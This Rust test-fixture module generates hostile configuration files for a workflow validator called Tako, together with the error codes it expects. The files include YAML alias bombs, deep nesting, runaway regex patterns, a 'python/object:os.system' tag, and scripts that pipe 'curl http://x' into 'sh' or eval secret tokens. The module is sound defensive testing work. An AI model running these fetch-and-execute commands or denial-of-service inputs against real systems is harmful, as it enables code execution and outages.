//! Files that somebody writes to make Tako hang, run out of memory, or fall over.

use std::fmt::Write as _;

/// A file and what is to become of it.
#[derive(Debug)]
pub struct HostileFile {
    /// What it tries.
    pub name: &'static str,
    /// Its bytes.
    pub bytes: Vec<u8>,
    /// What `tako validate` says of it: a code, a part of a message, or nothing where there is nothing wrong.
    pub refused: Option<&'static str>,
}

/// All of them.
#[must_use]
pub fn files() -> Vec<HostileFile> {
    let mut all = Vec::new();
    encodings(&mut all);
    shapes(&mut all);
    templates(&mut all);
    expressions(&mut all);
    values(&mut all);
    crowds(&mut all);
    all
}

fn add(
    into: &mut Vec<HostileFile>,
    name: &'static str,
    bytes: impl Into<Vec<u8>>,
    refused: Option<&'static str>,
) {
    into.push(HostileFile { name, bytes: bytes.into(), refused });
}

/// A file whose only workflow has these steps, the lines of a block sequence.
fn steps(steps: &str) -> String {
    format!("version: 1\nworkflows:\n  go:\n    steps:\n{steps}")
}

/// A file whose only workflow has these keys, in flow style, and one step.
fn workflow(keys: &str) -> String {
    format!("version: 1\nworkflows: {{go: {{{keys}, steps: [make]}}}}\n")
}

/// A file with these top-level keys beside one workflow.
fn beside(keys: &str) -> String {
    format!("version: 1\nworkflows: {{go: {{steps: [make]}}}}\n{keys}\n")
}

/// `count` texts, one after the other.
fn many(count: usize, of: impl Fn(usize) -> String) -> String {
    (0..count).map(of).collect()
}

fn encodings(into: &mut Vec<HostileFile>) {
    let plain = steps("      - make\n");
    add(into, "a byte order mark", format!("\u{feff}{plain}"), None);
    add(into, "carriage returns and line feeds", plain.replace('\n', "\r\n"), None);
    add(into, "carriage returns", plain.replace('\n', "\r"), None);
    add(into, "tabs", plain.replace("    ", "\t"), Some("TK0013"));
    add(into, "bytes that are no UTF-8", b"version: 1\n\xff\xfe\n", Some("is not UTF-8"));
    let wide: Vec<u8> = plain.encode_utf16().flat_map(u16::to_le_bytes).collect();
    add(into, "UTF-16", [&[0xff, 0xfe][..], &wide].concat(), Some("is not UTF-8"));
    add(into, "a NUL", "version: 1\n\0\n", Some("TK0012"));
    add(into, "a million NULs", vec![0; 1_000_000], Some("TK0012"));
    add(into, "nothing", "", Some("TK0111"));
    add(into, "more than 1 MiB", format!("version: 1\n#{}", "x".repeat(1 << 20)), Some("TK0002"));
    let escapes = "version: 1\n\"\\e[31m\\u202e\": 1\nworkflows: {\"\\x1b]0;x\\a\": {steps: [a]}}\n";
    add(into, "escapes in names", escapes, Some("TK0201"));
    add(into, "letters that turn the line around", steps("      - run: echo \u{202e}\u{2066} x\n"), None);
}

fn shapes(into: &mut Vec<HostileFile>) {
    let mut aliases = "version: 1\nx:\n  a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n".to_owned();
    let mut merges = "version: 1\nx:\n  a0: &a0 {k: v}\n".to_owned();
    for (at, before) in (1..30).zip(0..) {
        let ten = vec![format!("*a{before}"); 10].join(",");
        _ = writeln!(aliases, "  a{at}: &a{at} [{ten}]");
        _ = writeln!(merges, "  a{at}: &a{at} {{<<: *a{before}, p{at}: *a{before}, q{at}: *a{before}}}");
    }
    add(into, "aliases of aliases", aliases, Some("TK0003"));
    add(into, "merges of merges", merges, Some("TK0003"));
    add(into, "an alias of what it is in", "version: 1\na: &a [*a]\n", Some("TK0008"));
    for (name, open, close) in
        [("lists", "[", "]"), ("mappings", "{a: ", "}"), ("block lists", "- ", ""), ("questions", "? ", "")]
    {
        let deep = format!("version: 1\na:\n  {}{}\n", open.repeat(100_000), close.repeat(100_000));
        add(into, name, deep, Some("TK0004"));
    }
    let staircase = many(1_400, |at| format!("{}a:\n", " ".repeat(at)));
    add(into, "a staircase of keys", format!("version: 1\n{staircase}"), Some("TK0004"));
    let blocks = format!("{}a{}", "{run: a, on_failure: [".repeat(5_000), "]}".repeat(5_000));
    add(into, "blocks in blocks", steps(&format!("      - {blocks}\n")), Some("TK0004"));
    add(into, "keys that stand twice", "version: 1\nversion: 2\nworkflows: {}\n", Some("TK0005"));
    add(into, "170,000 documents", "---\na\n".repeat(170_000), Some("TK0006"));
    add(into, "a tag that runs code", "version: !!python/object:os.system 1\n", Some("TK0011"));
    add(into, "a long key", format!("version: 1\n{}: 1\n", "k".repeat(900_000)), Some("TK0001"));
    let keys = many(90_000, |at| format!("k{at}: 1\n"));
    add(into, "90,000 keys", format!("version: 1\n{keys}"), Some("TK0003"));
    add(into, "100,000 steps", steps(&"      - a\n".repeat(100_000)), Some("TK0003"));
    add(into, "90,000 steps", steps(&"      - a\n".repeat(90_000)), Some("TK0112"));
}

fn templates(into: &mut Vec<HostileFile>) {
    let script = |text: String| steps(&format!("      - run: '{text}'\n"));
    add(into, "a template without an end", script("echo {{ .inputs.x".to_owned()), Some("TK0301"));
    add(into, "200,000 of those", script("{{".repeat(200_000)), Some("TK0301"));
    for (name, open) in [("loops in loops", "{{ range .steps }}"), ("ifs in ifs", "{{ if .steps }}")] {
        let nested = format!("{}x{}", open.repeat(20_000), "{{ end }}".repeat(20_000));
        add(into, name, script(nested), Some("TK0301"));
    }
    add(into, "brackets in a template", script(format!("{{{{ {} }}}}", "(".repeat(100_000))), Some("TK0301"));
    let pipes = format!("{{{{ .run.id {} }}}}", "| upper ".repeat(100_000));
    add(into, "a pipeline of 100,000 functions", script(pipes), Some("TK0301"));
    add(into, "70,000 templates", script("{{ .run.id }}".repeat(70_000)), None);
    add(into, "templates among umlauts", script("é{{ .run.id }}".repeat(40_000)), None);
}

fn expressions(into: &mut Vec<HostileFile>) {
    let condition = |text: &str| steps(&format!("      - {{run: a, if: \"{text}\"}}\n"));
    add(into, "50,000 terms", condition(&format!("{}1 == 2", "1 + ".repeat(50_000))), Some("TK0305"));
    add(into, "50,000 choices", condition(&format!("{}true", "true || ".repeat(50_000))), Some("TK0305"));
    add(into, "100,000 brackets", condition(&"(".repeat(100_000)), Some("TK0305"));
    let macros = format!("{}true{}", "[1,2,3].all(a, ".repeat(40), ")".repeat(40));
    add(into, "macros in macros", condition(&macros), Some("TK0305"));
    let filters = many(40_000, |at| format!("'payload.a{at} == 1',"));
    let subscription = format!("{{artifact: 'o/r:a', events: e, workflow: go, filters: [{filters}]}}");
    add(into, "40,000 filters", beside(&format!("subscriptions: [{subscription}]")), Some("TK0112"));
    let asked = many(9_000, |at| format!("      - {{run: a, if: 'size(inputs) == {at}'}}\n"));
    add(into, "9,000 conditions", steps(&asked), None);
}

fn values(into: &mut Vec<HostileFile>) {
    let input = |validation: &str| workflow(&format!("inputs: {{a: {{validation: {validation}}}}}"));
    add(into, "a pattern that grows", input("{pattern: '((a{1000}){1000}){1000}'}"), Some("TK0116"));
    add(into, "a pattern that backtracks", input("{pattern: '(a+)+(a+)+(a+)+$'}"), None);
    let ranged = |range: &str| {
        let about = "artifact: 'o/r:a', events: e, workflow: go";
        beside(&format!("subscriptions: [{{{about}, schema_version: '{range}'}}]"))
    };
    add(into, "60,000 bounds of a range", ranged(&">=1.0.0 ".repeat(60_000)), Some("TK0108"));
    add(into, "a version of 500,000 digits", ranged(&format!("{}.0.0", "9".repeat(500_000))), Some("TK0108"));
    add(
        into,
        "a timeout of 500,000 digits",
        workflow(&format!("timeout: {}", "9".repeat(500_000))),
        Some("TK0106"),
    );
    add(into, "a timeout of 250,000 hours", workflow(&format!("timeout: {}", "1h".repeat(250_000))), None);
    let cron = format!("on: {{schedule: [{{cron: '{}1 * * * *'}}]}}", "1,".repeat(100_000));
    add(into, "100,000 minutes of a clock", workflow(&cron), None);
    let branches = |globs: &str| workflow(&format!("on: {{push: {{branches: [{globs}]}}}}"));
    add(into, "100,000 stars", branches(&format!("'{}'", "**/*".repeat(100_000))), None);
    add(into, "braces in braces", branches(&format!("'{}{}'", "{a,".repeat(9_000), "}".repeat(9_000))), None);
    add(into, "40,000 branches", branches(&many(40_000, |at| format!("'a{at}/**',"))), Some("TK0112"));
    let schema = |schema: &str| beside(&format!("events: {{e: {{schema: {schema}}}}}"));
    add(into, "a schema that is itself", schema("{$ref: '#'}"), Some("TK0451"));
    let grows = "{properties: {a: {pattern: '((a{1000}){1000}){1000}'}}}";
    add(into, "a schema with a pattern that grows", schema(grows), Some("TK0451"));
    add(
        into,
        "quotes and commands in a script",
        steps(&format!("      - run: |\n          {}\n", "\"$(echo '`".repeat(30_000))),
        None,
    );
    add(into, "commands in commands", steps(&format!("      - run: '{}'\n", "$(".repeat(300_000))), None);
    for (name, unit) in [
        ("a pipeline of 300,000 commands", "a | "),
        ("groups in groups", "{ ( "),
        ("groups that write", "{ a; } > b | "),
        ("conditions in conditions", "if a; then case b in c) "),
        ("defaults of defaults", "${a:-\"${b:-"),
        ("sums of sums", "$(( 1 + ("),
        ("arrays of arrays", "a=( "),
        ("secrets that are printed", "echo $T > $TAKO_ENV; "),
        ("shells that are piped to", "curl x | tee y | sh -c \"$T\"; "),
        ("functions", "a() { "),
        ("addresses", "ls http://a.org "),
        ("inputs of a program", "{{ .inputs.t }} "),
        ("variables that are counted", "$T$T$T "),
        ("variables that are cleaned", "X=$(echo $T$T$T | tr -d -d -d -c a) "),
        ("variables of variables", "A=\"$A$T\"; "),
        ("shells that read each other", "{ echo $T; } | sh | "),
        ("substitutions of substitutions", "x=$(eval $T; "),
    ] {
        let script = unit.repeat(900_000 / unit.len());
        let step = format!("      - env: {{T: TOKEN}}\n        run: |\n          {script}\n");
        add(into, name, steps(&step).replace("    steps:", "    secrets: [TOKEN]\n    steps:"), None);
    }
    for (name, before, behind) in [
        ("many commands before a long tr", "X=$({ ", &format!("}} | tr{})", " -a".repeat(150_000))),
        ("many commands before a long grep", "{ ", &format!("}} | grep{}", " -a".repeat(150_000))),
    ] {
        let script = format!("{before}{}{behind}", "echo $T; ".repeat(50_000));
        let step = format!("      - env: {{T: TOKEN}}\n        run: |\n          {script}\n");
        add(into, name, steps(&step).replace("    steps:", "    secrets: [TOKEN]\n    steps:"), None);
    }
    let group = format!("{{ {} }}{}", "a;".repeat(200_000), ">b".repeat(200_000));
    add(into, "a group that writes to 200,000 files", steps(&format!("      - '{group}'\n")), None);
    let array = format!("{}{}", "A".repeat(400_000), "=()".repeat(150_000));
    add(into, "150,000 arrays of a long name", steps(&format!("      - '{array}'\n")), None);
    let codes = many(500, |at| format!("TK{:04},", 500 + at));
    let nested = many(60, |at| format!("{}a: # tako: ignore[{codes}]\n", " ".repeat(at)));
    add(into, "30,000 codes that are silenced", format!("{nested}{}", beside("")), None);
    let ignored = many(200, |_| format!("      - run: a # tako: ignore[{codes}]\n"));
    add(into, "100,000 codes that are silenced in vain", steps(&ignored), None);
    let heredocs = "          cat <<A <<B <<C\n".repeat(30_000);
    add(into, "here-documents without an end", steps(&format!("      - run: |\n{heredocs}")), None);
    add(
        into,
        "one line of 40,000 commands",
        steps(&format!("      - '{}'\n", "curl http://x | sh; ".repeat(40_000))),
        None,
    );
}

/// As many as can be of everything that a file may have many of.
fn crowds(into: &mut Vec<HostileFile>) {
    let unknown = many(9_900, |at| format!("      - {{id: s{at}, run: 'echo {{{{ .steps.t{at}.x }}}}'}}\n"));
    add(into, "9,900 unknown steps", steps(&unknown), Some("TK0303"));
    let read =
        many(9_900, |at| format!("      - {{id: s{at}, run: a, if: \"steps.s{at}.result == 'x'\"}}\n"));
    add(into, "9,900 steps that read themselves", steps(&read), None);
    let inputs = many(9_000, |at| format!("i{at}: {{}},"));
    let names = many(9_000, |at| format!("      - 'echo {{{{ .inputs.j{at} }}}}'\n"));
    let both = format!("version: 1\nworkflows:\n  go:\n    inputs: {{{inputs}}}\n    steps:\n{names}");
    add(into, "9,000 inputs, and 9,000 others that are read", both, None);
    let wrong = "      - {runn: a}\n".repeat(9_900);
    add(into, "9,900 steps without a script", steps(&wrong), Some("TK0104"));
    let line = format!("{{version: 1, workflows: {{go: {{steps: [{}]}}}}}}", "{runn: a},".repeat(9_900));
    add(into, "the same in one line", line, Some("TK0104"));
    let workflows = many(9_900, |at| format!("  w{at}: {{steps: [a]}}\n"));
    add(into, "9,900 workflows", format!("version: 1\nworkflows:\n{workflows}"), None);
    let about = "artifact: 'o/r:a', events: e, workflow: go, filters: ['payload.x == 1']";
    let subscriptions = many(8_000, |_| format!("{{{about}}},"));
    add(into, "8,000 subscriptions", beside(&format!("subscriptions: [{subscriptions}]")), None);
    let kinds = many(45_000, |at| format!("e{at},"));
    let listening = format!("{{artifact: 'o/r:a', workflow: go, events: [{kinds}]}}");
    add(into, "45,000 events of one subscription", beside(&format!("subscriptions: [{listening}]")), None);
    add(
        into,
        "40,000 events",
        beside(&format!("events: {{{}}}", many(40_000, |at| format!("e{at}: {{}},")))),
        None,
    );
    let artifacts = many(22_000, |at| format!("a{at}: {{path: x}},"));
    add(into, "22,000 artifacts", beside(&format!("artifacts: {{{artifacts}}}")), None);
    let emitting = many(8_000, |at| format!("      - {{run: a, produces: {{events: [{{type: e{at}}}]}}}}\n"));
    add(into, "8,000 steps with events", steps(&emitting), None);
    let variables = many(40_000, |at| format!("K{at}: v,"));
    add(into, "40,000 variables", steps(&format!("      - {{run: a, env: {{{variables}}}}}\n")), None);
    let secrets = many(40_000, |at| format!("S{at},"));
    add(into, "40,000 secrets", workflow(&format!("secrets: [{secrets}]")), None);
    let dependents = many(20_000, |at| format!("{{repo: 'o/r{at}:main'}},"));
    add(into, "20,000 dependents", beside(&format!("dependents: [{dependents}]")), None);
    let words = many(20_000, |at| format!("e{at},"));
    let compared = "      - {run: a, if: 'inputs.a == \"x\"'}\n".repeat(8_000);
    let of_words = format!(
        "version: 1\nworkflows:\n  go:\n    inputs: {{a: {{validation: {{enum: [{words}]}}}}}}\n    steps:\n{compared}"
    );
    add(into, "20,000 words to choose from", of_words, None);
    let silenced = "      # tako: ignore[TK0601]\n      - a\n".repeat(9_900);
    add(into, "9,900 comments that silence nothing", steps(&silenced), None);
    let piped = "          curl http://x | sh\n".repeat(30_000);
    add(into, "30,000 dangerous lines", steps(&format!("      - run: |\n{piped}")), None);
}
